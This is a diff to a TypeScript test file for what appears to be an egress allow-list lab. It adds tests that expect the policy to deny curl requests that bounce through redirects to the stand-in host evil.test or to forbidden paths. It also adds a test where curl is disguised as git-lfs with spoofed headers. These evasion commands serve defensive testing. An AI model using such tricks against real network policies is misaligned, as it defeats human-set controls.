@@ -1,7 +1,7 @@
-/** Rows 36, 41–47, 51 and 53: what a client can do with the words of HTTP/1.1, with TLS and without. */
+/** Rows 36, 41–47, 49–51 and 53: what a client can do with the words of HTTP/1.1, with TLS and without. */
 import t from "tap"
 import { recorderPorts } from "../../lab/recorder-ports.ts"
-import { whyNoLab } from "./harness.ts"
+import { threeTimes, whyNoLab } from "./harness.ts"
 import { oddRules, oddTries } from "./odd-requests.ts"
 import { recordedLab } from "./recorded.ts"
 import { allTries } from "./requests.ts"
@@ -23,5 +23,36 @@ t.test("requests", { skip, timeout: 280_000 }, async (t) => {
     const port = recorderPorts.secure
     const rules = { allow: oddRules("https", port), whole: [`allowed.test:${port}`] }
     await allTries(t, lab, rules, oddTries("https", port))
+  })
+
+  const { secure } = recorderPorts
+  const base = `https://allowed.test:${secure}`
+  const allow = [`GET ${base}/ok/**`]
+  await threeTimes(t, lab, {
+    name: "row 49: a redirect from an allowed host to another",
+    command: (word) => {
+      const backwards = [...`https://evil.test/${word}`].toReversed().join("")
+      return ["curl", "-skL", "-m", "5", `${base}/ok/redirect/${encodeURIComponent(backwards)}`]
+    },
+    allow,
+    reasons: ["name-not-allowed"],
+  })
+  await threeTimes(t, lab, {
+    name: "row 49: a redirect to another path of the host",
+    command: (word) => {
+      const backwards = [...`/evil/${word}`].toReversed().join("")
+      return ["curl", "-skL", "-m", "5", `${base}/ok/redirect/${encodeURIComponent(backwards)}`]
+    },
+    allow,
+    reasons: ["path-not-allowed"],
+  })
+  await threeTimes(t, lab, {
+    name: "row 50: the name and the words of a program that others exempt",
+    command: (word) => [
+      ...["sh", "-c"],
+      `directory=$(mktemp -d); cp "$(command -v curl)" "$directory/git-lfs"; "$directory/git-lfs" -sk -m 5 -A "git-lfs/3.4.0 (GitHub; linux amd64)" -H "X-Requested-With: actions-runner" ${base}/evil/${word}; rm -r "$directory"`,
+    ],
+    allow,
+    reasons: ["path-not-allowed"],
   })
 })
